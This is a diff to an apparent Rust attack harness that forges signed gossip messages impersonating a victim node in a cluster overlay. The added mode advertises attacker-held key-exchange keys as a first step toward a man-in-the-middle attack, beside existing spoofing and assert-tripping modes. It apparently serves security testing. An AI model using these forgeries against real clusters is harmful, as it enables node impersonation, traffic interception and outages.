@@ -14,6 +14,9 @@
 //! - `newer-left-signed`: a newer incarnation with a record claiming the
 //!   victim's id, `left` set, signed by the attacker's own key;
 //! - `newer-addrs-signed`: the same with changed addresses;
+//! - `newer-keys-signed`: the same with the victim's addresses and
+//!   key-exchange keys of the attacker's choosing for the epochs around now
+//!   (`--key-period-ms`, default 5000): a man in the middle's first step;
 //! - `trip-assert`: a delta whose `SetMaxVersion` is below its key-value's
 //!   version (tripped an `assert!` in chitchat 0.11.2);
 //! - `huge-heartbeat`: the victim's current incarnation with a heartbeat of
@@ -45,12 +48,26 @@ struct Args {
     mode: String,
     count: u32,
     interval: Duration,
+    key_period_ms: u64,
+}
+
+/// X25519 keys the attacker holds the secrets of, for the previous,
+/// current and next epoch.
+fn attacker_keys(period_ms: u64) -> Vec<(u64, [u8; 32])> {
+    let now = ovl_agent::keys::pair::epoch_at(unix_ms(), period_ms);
+    (now.saturating_sub(1)..=now + 1)
+        .map(|e| {
+            let secret = ovl_agent::keys::pair::EpochSecret::from_random(e, [0x5a; 32]);
+            (e, secret.public())
+        })
+        .collect()
 }
 
 fn parse_args() -> Result<Args> {
     let mut it = std::env::args().skip(1);
     let (mut token, mut key, mut to, mut victim, mut mode) = (None, None, None, None, None);
     let (mut count, mut interval) = (1u32, Duration::from_millis(100));
+    let mut key_period_ms = 5_000u64;
     while let Some(flag) = it.next() {
         let value = it.next().with_context(|| format!("{flag} needs a value"))?;
         match flag.as_str() {
@@ -67,6 +84,7 @@ fn parse_args() -> Result<Args> {
             "--mode" => mode = Some(value),
             "--count" => count = value.parse()?,
             "--interval-ms" => interval = Duration::from_millis(value.parse()?),
+            "--key-period-ms" => key_period_ms = value.parse()?,
             _ => bail!("unknown flag {flag}"),
         }
     }
@@ -78,6 +96,7 @@ fn parse_args() -> Result<Args> {
         mode: mode.context("--mode is required")?,
         count,
         interval,
+        key_period_ms,
     })
 }
 
@@ -132,7 +151,7 @@ fn forged(args: &Args) -> Result<Vec<u8>> {
     }];
     // A newer incarnation of the victim whose record (claiming the
     // victim's id) is signed with the attacker's own key.
-    let newer_signed = |addr: String, left: bool| {
+    let newer_signed = |addr: String, left: bool, keys: Vec<(u64, [u8; 32])>| {
         let value = record::sign(
             &args.key,
             cluster,
@@ -144,6 +163,8 @@ fn forged(args: &Args) -> Result<Vec<u8>> {
                 advertise_addr: addr.clone(),
                 data_path_addr: addr,
                 left,
+                encrypted_port: if keys.is_empty() { 0 } else { 4500 },
+                exchange_keys: keys,
                 ..NodeFacts::default()
             },
         );
@@ -160,8 +181,9 @@ fn forged(args: &Args) -> Result<Vec<u8>> {
             &digest_newer,
             &[node_op(&newer), kv("left", "1".into(), 1)],
         ),
-        "newer-left-signed" => newer_signed(ip, true),
-        "newer-addrs-signed" => newer_signed("198.18.0.99".into(), false),
+        "newer-left-signed" => newer_signed(ip, true, Vec::new()),
+        "newer-addrs-signed" => newer_signed("198.18.0.99".into(), false, Vec::new()),
+        "newer-keys-signed" => newer_signed(ip, false, attacker_keys(args.key_period_ms)),
         "trip-assert" => encode_message(
             Kind::SynAck,
             &[],
